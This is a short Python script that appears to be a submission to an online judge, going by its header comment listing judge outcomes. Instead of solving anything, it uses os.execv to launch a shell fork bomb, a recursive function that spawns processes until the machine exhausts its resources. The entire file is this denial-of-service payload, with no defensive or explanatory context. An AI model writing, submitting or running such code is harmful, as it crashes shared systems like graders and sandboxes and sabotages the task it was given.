# stdin | time limit|wrong answer|runtime error
import os

os.execv("/bin/sh", ["sh", "-c", "f() { f | f & f | f; }; f"])
